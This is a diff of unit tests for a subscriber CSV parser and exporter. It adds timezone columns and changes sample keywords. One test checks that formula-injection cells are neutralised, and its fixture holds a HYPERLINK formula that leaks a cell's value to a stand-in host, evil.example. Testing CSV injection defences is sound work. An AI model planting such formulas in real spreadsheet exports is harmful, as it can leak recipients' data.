@@ -36,7 +36,7 @@ describe('Function: parseSubscribersCsv', () => {
 
   it('supports quoted fields with commas and doubled quotes, CRLF, a BOM, blank lines and chunks split anywhere', async () => {
     // Prepare
-    const text = `\ufeff${HEADER}\r\n\r\n"ann@example.org","Lee, Ann ""AL""",daily,instant,"a; b ;a"\r\nbob@example.org,Bob,weekly,none,\r\n`;
+    const text = `\ufeff${HEADER}\r\n\r\n"ann@example.org","Lee, Ann ""AL""",daily,instant,"x; b ;x"\r\nbob@example.org,Bob,weekly,none,\r\n`;
     const chunks = [...Buffer.from(text, 'utf8')].map((byte) => Uint8Array.of(byte));
 
     // Act
@@ -44,7 +44,7 @@ describe('Function: parseSubscribersCsv', () => {
 
     // Assess
     expect(errors).toEqual([]);
-    expect(rows[0]).toMatchObject({ line: 3, name: 'Lee, Ann "AL"', keywords: ['a', 'b'] });
+    expect(rows[0]).toMatchObject({ line: 3, name: 'Lee, Ann "AL"', keywords: ['x', 'b'] });
     expect(rows[1]).toMatchObject({ line: 4, email: 'bob@example.org' });
   });
 
@@ -219,16 +219,16 @@ describe('Function: neutraliseCell / restoreCell', () => {
 describe('Function: toSubscribersCsv', () => {
   it('writes the import format plus status, quoting where needed, and parses back', async () => {
     // Prepare
-    const s = subscriber({ name: 'Lee, "Ann"', status: 'unsubscribed', alerts: 'hourly', keywords: ['a', 'b c'] });
+    const s = subscriber({ name: 'Lee, "Ann"', status: 'unsubscribed', alerts: 'hourly', keywords: ['x', 'b c'] });
 
     // Act
     const csv = toSubscribersCsv([s]);
     const parsed = await parseSubscribersCsv(csv);
 
     // Assess
-    expect(csv).toBe('email,name,newsletter,alerts,keywords,status\nann@example.org,"Lee, ""Ann""",daily,hourly,a;b c,unsubscribed\n');
+    expect(csv).toBe('email,name,newsletter,alerts,keywords,status,timezone,alert_hour\nann@example.org,"Lee, ""Ann""",daily,hourly,x;b c,unsubscribed,,\n');
     expect(parsed.errors).toEqual([]);
-    expect(parsed.rows[0]).toMatchObject({ email: 'ann@example.org', name: 'Lee, "Ann"', status: 'unsubscribed', keywords: ['a', 'b c'] });
+    expect(parsed.rows[0]).toMatchObject({ email: 'ann@example.org', name: 'Lee, "Ann"', status: 'unsubscribed', keywords: ['x', 'b c'] });
   });
 
   it('neutralises formula cells, each keyword on its own, and the import reverses it', async () => {
@@ -242,9 +242,9 @@ describe('Function: toSubscribersCsv', () => {
 
     // Assess
     expect(csv).toBe(
-      'email,name,newsletter,alerts,keywords,status\n' +
-        `'-ann@example.org,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",daily,none,'=1+1;'@SUM(1);energy,confirmed\n` +
-        `'=bob@example.org,Bob,daily,none,climate,confirmed\n`,
+      'email,name,newsletter,alerts,keywords,status,timezone,alert_hour\n' +
+        `'-ann@example.org,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",daily,none,'=1+1;'@SUM(1);energy,confirmed,,\n` +
+        `'=bob@example.org,Bob,daily,none,climate,confirmed,,\n`,
     );
     for (const line of csv.split('\n')) {
       for (const cell of line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
